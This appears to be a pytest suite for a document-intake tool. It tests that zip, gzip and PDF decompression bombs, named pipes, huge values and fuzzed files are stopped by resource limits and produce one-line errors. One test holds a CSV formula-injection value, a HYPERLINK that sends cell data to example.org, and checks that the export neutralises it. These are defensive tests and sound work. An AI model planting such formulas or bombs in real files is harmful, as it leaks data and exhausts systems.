"""Bounded and unbreakable: inputs that once stalled, blew up or crashed validation and the
commands, each held to a CPU time and memory limit in a child process (``run_limited``), each
with the exact line the user sees, and an ordinary input beside it that passes."""

from __future__ import annotations

import gzip
import json
import os
import textwrap

import pytest
import yaml
from conftest import REPO, run_limited
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from intake_fixtures import (
    ZOTERO_ITEM,
    csl_export,
    gzip_bomb,
    pdf_bomb,
    report_pdf,
    retitled,
    saved_page,
    warc,
    zipped,
)
from test_intake import PAGE_TEXT, add, error_of, text_of
from test_validate import diagnostics_of as problems
from test_validate import edit


def limited(code: str, **limits):
    result = run_limited(textwrap.dedent(code), cwd=REPO, **limits)
    assert result.returncode == 0, (result.returncode, result.stdout, result.stderr[-2000:])
    return result.stdout


# --- the closest passage to a quotation that is not found --------------------------------

def test_the_closest_passage_in_a_megabyte_takes_little_time():
    """One wrong 1 KB quotation against a 1 MB body: 32 s when every character was compared
    with every other; now well under the 2 s of CPU the child is allowed."""
    out = limited("""
        from briefing.quotes import cut_body
        lines = [f"Line {n} of the record: the delegation number {n} met at the border post."
                 for n in range(14000)]
        archive = "\\n".join(lines)
        assert len(archive) > 1_000_000
        body, problems = cut_body(archive, [("Line 0 ", "number 13999 met at the border post.")])
        wanted = " ".join(lines[7000:7014]).replace("number 7006 met", "number 7006 sat")
        assert len(wanted) > 1000 and not body.contains(wanted)
        print(body.closest(wanted))
    """, cpu_s=2, memory_mb=512)
    assert out.startswith("Line 7000 of the record: the delegation number 7000 met")
    assert out.rstrip().endswith("the delegation number 7013 met at the border post.")


def test_the_closest_passage_is_the_longest_run_shared():
    from briefing.quotes import cut_body

    body, _ = cut_body("Menu\nThe minister said the two sides would meet again soon. The "
                       "minister said nothing of radar. End", [("The", "End")])
    assert body.closest("the two sides would meet later") == "the two sides would meet again"
    assert body.closest("The minister said nothing of the radar") == (
        "The minister said nothing of radar. End")
    assert body.closest("unlike anything there") is None


# --- numbers YAML 1.1 reads in its own way, and files that are not files ------------------

def validated(project):
    from briefing import validate
    from briefing.paths import Project

    return validate.validate(Project.at(project))[0]


@pytest.mark.parametrize("written, kept", [("1:20:30", "1:20:30"), ("010", "010"),
                                           ("0x1F", "0x1F"), ("2", "2"), ("1.10", "1.10")])
def test_an_unquoted_edition_is_kept_as_written(project, written, kept):
    """YAML 1.1 reads 1:20:30 as base 60 (4830) and 010 as octal (8)."""
    edit(project, "document.yaml", 'edition: "0.1"', f"edition: {written}")
    assert validated(project).document.edition == kept


def test_a_number_of_thousands_of_digits_is_text_or_one_line(project):
    digits = "7" * 5000
    edit(project, "ledger/2007.yaml", "summary: The minister offered joint work on early warning.",
         f"summary: {digits}")
    assert validated(project).events[0].summary == digits
    edit(project, "ledger/2007.yaml", "quote: explore joint work on early warning",
         f"quote: explore joint work on early warning\n      credibility: {digits}")
    assert problems(project) == ["content/ledger/2007.yaml:13:20: error: citations[0]."
                                 "credibility: a number of 5000 digits is too long [field.type]"]


def test_a_named_pipe_in_content_is_not_opened(project):
    os.mkfifo(project / "content" / "ledger" / "2099.yaml")
    result = run_limited("import sys; from briefing.__main__ import main; sys.exit(main())",
                         "validate", "--root", str(project), cpu_s=20, timeout=120)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert result.stderr.splitlines() == [
        "content/ledger/2099.yaml: error: file is a named pipe (FIFO), not a regular file: it "
        "is not read [file.not-regular]",
        "    hint: content files are ordinary files; remove it or put a copy of what it holds "
        "in its place",
        "1 error, 0 warnings"]


def test_thousands_of_broken_entries_print_fifty_lines_of_each_kind(project):
    (project / "content" / "ledger" / "2099.yaml").write_text("- {}\n" * 20000)
    result = run_limited("import sys; from briefing.__main__ import main; sys.exit(main())",
                         "validate", "--root", str(project), cpu_s=30, memory_mb=1024)
    lines = result.stderr.splitlines()
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert len(lines) == 52
    assert lines[0] == ("content/ledger/2099.yaml:1:3: error: missing required field 'actors' "
                        "[field.missing]")
    assert lines[-2:] == ["... and 139950 more errors [field.missing], not shown",
                          "140000 errors, 0 warnings"]


def test_a_value_megabytes_long_is_shown_in_part(project):
    edit(project, "ledger/2007.yaml", "kind: offer", "kind: " + "x" * 1_000_000)
    (line,) = problems(project)
    assert line.startswith("content/ledger/2007.yaml:3:9: error: kind: 'xxx")
    assert "… (999691 characters left out) …" in line and len(line) < 500


# --- intake: limits on what it reads and uncompresses; one line for each bad input ---------

def content_files(project) -> dict[str, bytes]:
    return {p.relative_to(project).as_posix(): p.read_bytes()
            for p in (project / "content").rglob("*") if p.is_file()}


def refused(project, capsys, *args) -> str:
    """The one line add-source prints for a bad input; nothing in content/ was written."""
    before = content_files(project)
    line = error_of(project, capsys, *args)
    assert content_files(project) == before
    return line


def add_in_child(project, *args, cpu_s=60, memory_mb=1024):
    """add-source run as the user runs it, in a process held to CPU and memory limits."""
    before = content_files(project)
    result = run_limited("import sys; from briefing.__main__ import main; sys.exit(main())",
                         "add-source", *map(str, args), "--root", str(project), cpu_s=cpu_s,
                         memory_mb=memory_mb, timeout=300)
    assert "Traceback" not in result.stderr, result.stderr
    if result.returncode:
        assert content_files(project) == before
    return result


def test_a_file_over_the_size_limit_is_refused_and_the_flag_raises_it(project, tmp_path, capsys):
    text = tmp_path / "long.txt"
    text.write_text("Talks on radar.\n\n" + "".join(f"Meeting {n} of the ministers. "
                                                     for n in range(100_000)))
    assert refused(project, capsys, text, "--max-size", "2") == (
        f"{text}: error: file is 3.0 MB, more than the limit of 2 MB for a file to add "
        "[intake.too-large]")
    assert capsys.readouterr().err == ""
    assert add(project, text, "--max-size", "4", "--id", "long") == 0


def test_a_device_or_a_named_pipe_is_never_opened(project, tmp_path):
    fifo = tmp_path / "page.html"
    os.mkfifo(fifo)
    for path, what in (("/dev/zero", "a character device"), (fifo, "a named pipe (FIFO)")):
        result = add_in_child(project, path, cpu_s=20)
        assert result.returncode == 1
        assert result.stderr.splitlines()[0] == (
            f"{path}: error: file is {what}, not a regular file [intake.not-regular]")


def test_a_gzipped_warc_that_uncompresses_past_the_limit(project, tmp_path):
    bomb = gzip_bomb(tmp_path, 64 << 20)
    assert bomb.stat().st_size < 100_000
    result = add_in_child(project, bomb, "--max-unpacked", "16", cpu_s=20, memory_mb=512)
    assert result.stderr.splitlines()[:2] == [
        f"{bomb}: error: the WARC uncompresses to more than 16 MB, the limit for what one file "
        "holds [intake.too-large]",
        "    hint: if the file is what you meant to add, give --max-unpacked 32 (MB)"]
    assert add_in_child(project, warc(tmp_path), "--max-unpacked", "16").returncode == 0


def test_a_wacz_member_that_uncompresses_past_the_limit(project, tmp_path):
    import zipfile

    bomb = tmp_path / "bomb.wacz"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.warc", b"\0" * (64 << 20))
    result = add_in_child(project, bomb, "--max-unpacked", "16", cpu_s=20, memory_mb=512)
    assert result.stderr.splitlines()[0] == (
        f"{bomb}: error: the WACZ's archive/data.warc uncompresses to more than 16 MB, the "
        "limit for what one file holds [intake.too-large]")


def test_a_pdf_stream_that_uncompresses_past_the_memory_limit(project, tmp_path):
    """pdfminer uncompresses a stream whole: the reading process's memory limit stops it."""
    bomb = pdf_bomb(tmp_path, 1536 << 20)
    result = add_in_child(project, bomb, "--max-unpacked", "10", cpu_s=60, memory_mb=4096)
    assert result.stderr.splitlines()[0] == (
        f"{bomb}: error: reading the file needs more than 1064 MB of memory, the limit "
        "[intake.too-large]")


def _set(signature: bytes, at: int, change):
    """A patch of a zip file's bytes: the byte ``at`` after ``signature``, changed."""
    def patch(data: bytearray) -> None:
        where = data.find(signature) + at
        data[where] = change(data[where])
    return patch


LOCAL, CENTRAL = b"PK\x03\x04", b"PK\x01\x02"  # a member's header, and its directory entry


@pytest.mark.parametrize("patches, problem", [
    ([_set(b"<html", 3, lambda b: b ^ 0x20)],
     "is damaged (Bad CRC-32 for file 'archive/data.warc')"),
    ([_set(LOCAL, 6, lambda b: b | 1), _set(CENTRAL, 8, lambda b: b | 1)],
     "holds archive/data.warc encrypted"),
    ([_set(LOCAL, 8, lambda b: 99), _set(CENTRAL, 10, lambda b: 99)],
     "holds archive/data.warc compressed in a way that cannot be read here"),
])
def test_a_damaged_wacz_is_one_line(project, tmp_path, capsys, patches, problem):
    capture = gzip.decompress(warc(tmp_path).read_bytes())
    wacz_file = zipped(tmp_path, "capture.wacz", {"archive/data.warc": capture},
                       lambda data: [patch(data) for patch in patches])
    assert refused(project, capsys, wacz_file) == (
        f"{wacz_file}: error: WACZ web archive {problem} [intake.unreadable]")


def test_a_warc_record_without_headers_is_one_line(project, tmp_path, capsys):
    broken = tmp_path / "broken.warc"
    broken.write_bytes(b"WARC/1.0\r\nWARC-Type: response\r\n\r\n\r\n\r\n")
    assert refused(project, capsys, broken) == (
        f"{broken}: error: web archive cannot be read: record 1 is malformed [intake.unreadable]")


@pytest.mark.parametrize("charset", ["undefined", "punycode", "utf-7"])
def test_a_charset_browsers_do_not_know_is_not_used(project, tmp_path, charset):
    capture = warc(tmp_path)
    capture.write_bytes(gzip.compress(gzip.decompress(capture.read_bytes()).replace(
        b"text/html; charset=utf-8", b"text/html; charset=" + charset.encode())))
    assert add(project, capture, "--id", "gazette-warc") == 0
    assert text_of(project, "archive/gazette-warc.txt") == PAGE_TEXT


def test_a_csl_date_that_is_no_year_is_named(project, tmp_path, capsys):
    export = tmp_path / "export.json"
    export.write_text('[{"type": "webpage", "title": "Radar", "issued": {"date-parts": '
                      '[[1e400]]}}]')
    assert add(project, saved_page(tmp_path), "--csl", export) == 0
    assert ("content/sources/reporter-2024.yaml:16:3: warning: CSL issued date {\"date-parts\": "
            "[[Infinity]]} cannot be read [intake.check]") in capsys.readouterr().out


def test_a_title_megabytes_long_is_left_out_and_named(project, tmp_path, capsys):
    pdf = retitled(report_pdf(tmp_path), "Joint" * 540_000)
    assert add(project, pdf) == 0
    out = capsys.readouterr().out
    assert ("warning: title from the PDF's document information left out: it is 2700000 "
            "characters long, more than 500 [intake.check]") in out
    # in its place, as for a PDF without a title, the first line (here its running head)
    assert yaml.safe_load(text_of(project, "sources/reporter-2024.yaml"))["title"] == (
        "Institute Report Series")
    export = csl_export(tmp_path, {**ZOTERO_ITEM, "title": "Radar" * 564_000})
    assert add(project, saved_page(tmp_path), "--csl", export, "--id", "page") == 0
    assert ("warning: title from the CSL export left out: it is 2820000 characters long, more "
            "than 500 [intake.check]") in capsys.readouterr().out


def test_repetitive_text_is_refused_quickly(project, tmp_path):
    """200 KB of one phrase: each marker grew a word at a time over the whole text (39 s)."""
    text = tmp_path / "chant.txt"
    text.write_text("the same words again and again " * 7000)
    result = add_in_child(project, text, cpu_s=5)
    assert result.stderr.splitlines()[0] == (
        f"{text}: error: no text in the file occurs only once, so no body marker can be set "
        "[intake.no-text]")


def test_body_detection_of_forty_thousand_paragraphs_is_quick():
    out = limited("""
        from briefing.intake.body import body_ranges
        main = [f"Paragraph {n} says the delegation met and agreed on item {n}." for n in
                range(40000)]
        lines = []
        for n, paragraph in enumerate(main):
            lines += [paragraph, "", f"Advertisement {n % 3}", ""]
        detected = body_ranges("\\n".join(lines), main)
        print(len(detected.ranges), detected.pieces, detected.ranges[0].start,
              detected.ranges[0].end, sep="|")
    """, cpu_s=5, memory_mb=1024)
    assert out == "1|40000|Paragraph 0 says the delegation met|and agreed on item 39999.\n"


# --- outputs: the ledger's CSV opens in a spreadsheet as text ----------------------------

def test_a_csv_cell_that_a_spreadsheet_would_run_is_written_as_text(project):
    import csv
    import io

    from briefing import export, validate
    from briefing.paths import Project

    edit(project, "ledger/2007.yaml", "summary: The minister offered joint work on early warning.",
         'summary: \'=HYPERLINK("http://example.org/?"&A1, "click")\'')
    edit(project, "ledger/2007.yaml", "note: Set aside at a second meeting.", "note: '@SUM(1+1)'")
    where = Project.at(project)
    validate.write_content_json(where)
    export.write_exports(where)
    rows = list(csv.DictReader(io.StringIO(where.ledger_csv.read_text(encoding="utf-8"))))
    assert rows[0]["summary"] == '\'=HYPERLINK("http://example.org/?"&A1, "click")'
    assert rows[0]["outcome_note"] == "'@SUM(1+1)"
    assert rows[0]["id"] == "minister-offer-2007" and rows[0]["date"] == "2007-07"
    assert rows[1]["summary"] == "A second meeting ended without agreement."
    ledger = json.loads(where.ledger_json.read_text(encoding="utf-8"))  # JSON is data: as written
    assert ledger["events"][0]["summary"].startswith("=HYPERLINK(")


# --- intake fuzzed: whatever the bytes, a source or one line, never a traceback -----------

@pytest.fixture(scope="module")
def inputs(tmp_path_factory) -> dict[str, bytes]:
    folder = tmp_path_factory.mktemp("inputs")
    return {"html": saved_page(folder).read_bytes(), "warc": warc(folder).read_bytes(),
            "warc-plain": gzip.decompress(warc(folder).read_bytes()),
            "pdf": report_pdf(folder).read_bytes()}


@settings(max_examples=int(os.environ.get("FUZZ_EXAMPLES", "40")), deadline=None,
          derandomize=not os.environ.get("FUZZ_RANDOM"), database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data(), kind=st.sampled_from(["html", "warc", "warc-plain", "pdf"]))
def test_damaged_inputs_give_a_source_or_one_line(tmp_path, inputs, data, kind):
    from briefing.intake import IntakeError
    from briefing.intake.command import add_source
    from briefing.paths import Project

    raw = bytearray(inputs[kind])
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(raw) - 1))
        op = data.draw(st.sampled_from(["flip", "cut", "insert", "truncate"]))
        if op == "flip":
            raw[at] ^= data.draw(st.integers(1, 255))
        elif op == "cut":
            del raw[at: at + data.draw(st.integers(1, 200))]
        elif op == "insert":
            raw[at:at] = data.draw(st.binary(min_size=1, max_size=40))
        else:
            del raw[max(at, 8):]
    folder = tmp_path / f"case-{len(list(tmp_path.iterdir()))}"
    (folder / "content").mkdir(parents=True)
    saved = folder / "input"
    saved.write_bytes(bytes(raw))
    try:
        add_source(Project.at(folder), saved, "fuzzed")
    except IntakeError as exc:
        assert exc.message and "\n" not in exc.message and exc.code.startswith("intake.")
        assert not (folder / "content" / "sources").exists()


def _spin():
    while True:
        pass


def _allocate():
    return b"x" * (3 << 30)


def test_the_reading_process_is_stopped_at_its_cpu_and_memory_limits():
    from briefing.intake import IntakeError
    from briefing.intake.limits import MB, Limits, in_child

    with pytest.raises(IntakeError) as slow:
        in_child(_spin, limits=Limits(cpu_s=1))
    assert (slow.value.message, slow.value.code) == (
        "reading the file took more than 1 s of CPU time, the limit", "intake.too-slow")
    with pytest.raises(IntakeError) as large:
        in_child(_allocate, limits=Limits(unpacked=16 * MB))
    assert (large.value.message, large.value.code) == (
        "reading the file needs more than 1088 MB of memory, the limit", "intake.too-large")
    assert in_child(len, b"four", limits=Limits()) == 4
